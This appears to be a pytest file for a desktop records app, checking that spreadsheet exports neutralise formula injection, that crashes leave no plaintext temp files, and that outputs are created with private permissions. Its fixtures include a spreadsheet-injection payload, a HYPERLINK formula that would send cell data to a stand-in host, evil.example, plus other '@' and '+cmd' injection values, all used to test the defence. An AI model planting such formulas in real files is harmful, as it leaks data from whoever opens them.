"""Files the station writes outside its database: every workbook inert (no formula from a hostile name), no
plaintext left behind by a crash (openpyxl's files in $TMPDIR, ``.NAME.xlsx.tmp-PID`` beside the target), and
exports, reports, PDFs and backups created 0600 whatever the umask. Real ``ksk`` processes, real files; the
crashes are real ``os._exit`` calls in a child process at the worst moment."""

from __future__ import annotations

import json
import os
import re
import stat
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from conftest import ADMIN, ADMIN_PASSWORD, run_ksk
from ksk_desktop.clock import SYSTEM_CLOCK
from ksk_desktop.fsio import sweep_pending, write_private
from ksk_desktop.xlsx.writer import Cell, Workbook, inert_text

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="POSIX modes and umask")

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
HOSTILE_ADDRESS = "@SUM(A1:A9)"
HOSTILE_HAMLET = "-Thôn 1+cmd"


def _ksk(data_dir: Path, *args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    out = run_ksk("--user", ADMIN, *args, data_dir=data_dir, password=ADMIN_PASSWORD, env=env)
    assert out.returncode == 0, out.stderr
    return out


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def assert_inert(path: Path) -> list[list]:
    """No formula anywhere; every text cell a text cell marked as text (quote prefix); returns the values."""
    xml = sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    wb = openpyxl.load_workbook(path)
    rows = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                    assert (
                        not cell.value
                        or cell.value[0] not in "=+-@\t\r"
                        or re.fullmatch(r"[+\-][0-9 .,()/]*", cell.value)
                    )
            rows.append([c.value for c in row])
    return rows


@pytest.fixture
def hostile_station(station):
    paths, _ = station
    _ksk(
        paths.root,
        "person",
        "add",
        "--name",
        HOSTILE_NAME,
        "--address",
        HOSTILE_ADDRESS,
        "--hamlet",
        HOSTILE_HAMLET,
        "--phone",
        "+84 912 345 678",
        "--birth-year",
        "1980",
    )
    _ksk(paths.root, "person", "add", "--name", "Trần Thị Bình", "--birth-year", "1990", "--hamlet", "Thôn 2")
    return paths


def test_person_export_is_inert(hostile_station, tmp_path):
    dest = tmp_path / "ds.xlsx"
    _ksk(hostile_station.root, "person", "export", str(dest))
    rows = assert_inert(dest)
    values = [v for row in rows for v in row]
    assert "'" + HOSTILE_NAME in values and "'" + HOSTILE_HAMLET in values
    assert HOSTILE_NAME not in values
    assert "0912345678" in values  # the stored phone, still text with its leading zero
    assert all(isinstance(r[0], int) for r in rows[2:])  # the numbering stays numbers
    # An independent reader (calamine) sees the same text, not a formula result.
    grid = list(CalamineWorkbook.from_path(str(dest)).get_sheet_by_index(0).iter_rows())
    assert any(c == "'" + HOSTILE_NAME for row in grid for c in row)


def test_rejected_rows_report_is_inert_and_keeps_phones_and_negative_numbers_readable(station, tmp_path):
    paths, _ = station
    src = tmp_path / "ds.csv"
    src.write_text(
        "Họ và tên;Ngày sinh;Số điện thoại;Ghi chú\n"
        f'"{HOSTILE_NAME.replace(chr(34), chr(34) * 2)}";31/02/1990;+84 912 345 678;-5\n'
        "Lê Văn Cường;1950;;\n",
        encoding="utf-8",
    )
    report = tmp_path / "loai.xlsx"
    out = _ksk(paths.root, "person", "import", str(src), "--report", str(report), "--json")
    assert json.loads(out.stdout)["rejected"] == 1
    rows = assert_inert(report)
    row = rows[1]
    assert row[0] == 2 and isinstance(row[0], int)  # the line in the source file
    assert row[2] == "'" + HOSTILE_NAME
    assert row[4] == "+84 912 345 678"  # a signed number as text reads as typed: it cannot call anything
    assert row[5] == "-5"


def test_coverage_export_is_inert(hostile_station, tmp_path):
    dest = tmp_path / "bao-phu.xlsx"
    year = str(SYSTEM_CLOCK.today().year)
    _ksk(hostile_station.root, "schedule", "coverage", "--year", year, "--export", str(dest))
    values = [v for row in assert_inert(dest) for v in row]
    assert "'" + HOSTILE_NAME in values


def test_inert_text_rule():
    assert inert_text("=1+1") == "'=1+1"
    assert inert_text("@A1") == "'@A1"
    assert inert_text("\t=1") == "'\t=1"
    assert inert_text("\r=1") == "'\r=1"
    assert inert_text("\uff1dSUM(A1)") == "'\uff1dSUM(A1)"  # full-width equals sign
    assert inert_text("+84 912 345 678") == "+84 912 345 678"
    assert inert_text("-5") == "-5" and inert_text("-") == "-"
    assert inert_text("-5+cmd") == "'-5+cmd"
    assert inert_text("Nguyễn Văn An") == "Nguyễn Văn An"


def test_workbook_writer_types_styles_and_odd_text(tmp_path):
    from datetime import date, datetime

    wb = Workbook()
    with wb.sheet("Trang/1?", widths={2: 30}, freeze="B2") as ws:
        ws.append([Cell("Tiêu đề", title=True), Cell("Đậm", bold=True, highlight=True)])
        ws.append(
            [-5, 2.5, True, date(1985, 4, 15), datetime(2026, 1, 2, 12, 0), date(1890, 1, 1), None, "a\x01b"]  # noqa: DTZ001 - a spreadsheet's wall-clock time
        )
        ws.append(["x" * 40_000])
    path = tmp_path / "a.xlsx"
    path.write_bytes(wb.to_bytes())
    ws = openpyxl.load_workbook(path).active
    assert ws.title == "Trang 1"
    assert ws["A1"].font.b and ws["A1"].font.sz == 13 and ws["B1"].fill.fgColor.rgb == "FFFFF2CC"
    assert [ws.cell(2, c).value for c in range(1, 4)] == [-5, 2.5, True]
    assert ws["D2"].value == datetime(1985, 4, 15)  # noqa: DTZ001 - openpyxl reads naive datetimes
    assert ws["D2"].number_format == "dd/mm/yyyy"
    assert ws["E2"].value == datetime(2026, 1, 2, 12, 0)  # noqa: DTZ001 - openpyxl reads naive datetimes
    assert ws["F2"].value == "01/01/1890"  # before Excel's calendar: text
    assert ws["H2"].value == "ab"  # a control character cannot be stored in XML
    assert len(ws["A3"].value) == 32767
    assert ws.freeze_panes == "B2" and ws.column_dimensions["B"].width == 30


# -- crashes leave nothing behind ---------------------------------------------------------------------
CRASH = textwrap.dedent(
    """
    import os, sys
    os.umask(int(sys.argv[1], 8))
    point = sys.argv[2]
    from ksk_desktop.cli import main as cli
    from ksk_desktop.people import people_list
    # the export reads the list a page at a time (the helper behind people_list.page)
    page_name = "_page" if hasattr(people_list, "_page") else "page"
    real_replace, real_page = os.replace, getattr(people_list, page_name)
    calls = []

    def replace(src, dst):
        if point == "rename" and str(dst).endswith(".xlsx"):
            os._exit(9)  # the export is written in full beside the target; the rename never happens
        return real_replace(src, dst)

    def page(*args, **kw):
        calls.append(1)
        if point == "render" and len(calls) == 2:
            os._exit(9)  # half-way through the rows
        return real_page(*args, **kw)

    os.replace = replace
    setattr(people_list, page_name, page)
    sys.exit(cli.main(sys.argv[3:]))
    """
)


def run_crashing(data_dir: Path, tmp: Path, point: str, *args: str, umask: str = "022") -> int:
    env = dict(os.environ, KSK_DATA_DIR=str(data_dir), KSK_PASSWORD=ADMIN_PASSWORD, TMPDIR=str(tmp))
    out = subprocess.run(
        [sys.executable, "-c", CRASH, umask, point, "--user", ADMIN, *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
    )
    return out.returncode


@pytest.fixture
def many_people(station):
    paths, _ = station
    _ksk(paths.root, "demo", "--people", "2500", "--seed", "3")
    return paths


def files_under(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file())


def test_a_crash_while_rendering_leaves_no_plaintext_anywhere(many_people, tmp_path):
    tmp, out = tmp_path / "tmp", tmp_path / "out"
    tmp.mkdir()
    out.mkdir()
    assert run_crashing(many_people.root, tmp, "render", "person", "export", str(out / "ds.xlsx")) == 9
    assert files_under(tmp) == []  # openpyxl kept every row written so far in $TMPDIR (716 names)
    assert files_under(out) == []


def test_a_crash_before_the_rename_is_cleaned_up_when_the_station_next_opens(many_people, tmp_path):
    tmp, out = tmp_path / "tmp", tmp_path / "out"
    tmp.mkdir()
    out.mkdir()
    assert run_crashing(many_people.root, tmp, "rename", "person", "export", str(out / "ds.xlsx")) == 9
    assert files_under(tmp) == []
    [left] = list(out.iterdir())  # the whole list, hidden beside the target
    assert left.name.startswith(".ds.xlsx.tmp-") and stat.S_IMODE(left.stat().st_mode) == 0o600
    assert list(many_people.pending.iterdir())  # named in the station's journal
    _ksk(many_people.root, "person", "count")  # the station opens: the leftover goes
    assert files_under(out) == [] and list(many_people.pending.iterdir()) == []


def test_a_write_in_progress_is_not_swept_by_another_process(tmp_path):
    journal, target = tmp_path / "journal", tmp_path / "out" / "a.xlsx"
    target.parent.mkdir()
    script = textwrap.dedent(
        f"""
        import os, sys
        from pathlib import Path
        from ksk_desktop import fsio
        real = fsio._write_fd
        def slow(fd, data):
            print("writing", flush=True)
            sys.stdin.readline()  # hold the journal entry until the test says go
            real(fd, data)
        fsio._write_fd = slow
        fsio.write_private(Path({str(target)!r}), b"x" * 10, journal=Path({str(journal)!r}))
        """
    )
    child = subprocess.Popen(
        [sys.executable, "-c", script], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    try:
        assert child.stdout.readline().strip() == "writing"
        assert sweep_pending(journal) == 0 and len(list(journal.iterdir())) == 1
        child.stdin.write("go\n")
        child.stdin.flush()
        assert child.wait(timeout=60) == 0
    finally:
        child.kill()
    assert target.read_bytes() == b"x" * 10 and list(journal.iterdir()) == []


def test_a_swept_journal_never_deletes_anything_but_temporary_files(tmp_path):
    journal = tmp_path / "j"
    journal.mkdir()
    precious = tmp_path / "station.db"
    precious.write_bytes(b"data")
    (journal / "x.pending").write_text(str(precious))
    sweep_pending(journal)
    assert precious.exists() and list(journal.iterdir()) == []


# -- modes -------------------------------------------------------------------------------------------
@pytest.mark.parametrize("umask", ["022", "000"])
def test_exports_reports_pdfs_and_backups_are_private_whatever_the_umask(many_people, tmp_path, umask):
    out = tmp_path / "out"
    out.mkdir()
    src = tmp_path / "ds.csv"
    src.write_text("Họ và tên;Ngày sinh\nAn;31/02/1990\n", encoding="utf-8")
    ctx_day = SYSTEM_CLOCK.today()
    commands = [
        ("person", "export", str(out / "ds.xlsx")),
        ("person", "import", str(src), "--report", str(out / "loai.xlsx")),
        ("schedule", "coverage", "--year", str(ctx_day.year), "--export", str(out / "bao-phu.xlsx")),
        ("backup", "create", str(out / "sao-luu.kskbak")),
    ]
    for args in commands:
        assert run_crashing(many_people.root, tmp_path, "none", *args, umask=umask) == 0, args
    made = {p.name: stat.S_IMODE(p.stat().st_mode) for p in out.iterdir()}
    assert made == {"ds.xlsx": 0o600, "loai.xlsx": 0o600, "bao-phu.xlsx": 0o600, "sao-luu.kskbak": 0o600}


def test_write_private_keeps_an_existing_file_on_failure(tmp_path):
    dest = tmp_path / "a.pdf"
    dest.write_bytes(b"old")
    os.chmod(dest, 0o644)
    write_private(dest, b"new")
    assert dest.read_bytes() == b"new" and stat.S_IMODE(dest.stat().st_mode) == 0o600
    with pytest.raises(Exception):  # noqa: B017, PT011 - a disk error, whichever
        write_private(tmp_path / "no-such-folder" / "b.pdf", b"x")
    assert files_under(tmp_path) == ["a.pdf"]


def test_printing_renders_in_memory(admin_session, tmp_path, monkeypatch):
    """A PDF is rendered into memory: reportlab never writes the destination folder while it lays out."""
    from ksk_desktop.printing import output

    seen: list[object] = []
    out = tmp_path / "out"
    out.mkdir()

    def render(buffer) -> int:  # noqa: ANN001
        seen.append(buffer)
        assert list(out.iterdir()) == []
        buffer.write(b"%PDF-1.4 test")
        return 1

    assert output.write_pdf(out / "a.pdf", render, journal=admin_session.paths.pending) == 1
    assert not isinstance(seen[0], Path) and (out / "a.pdf").read_bytes() == b"%PDF-1.4 test"
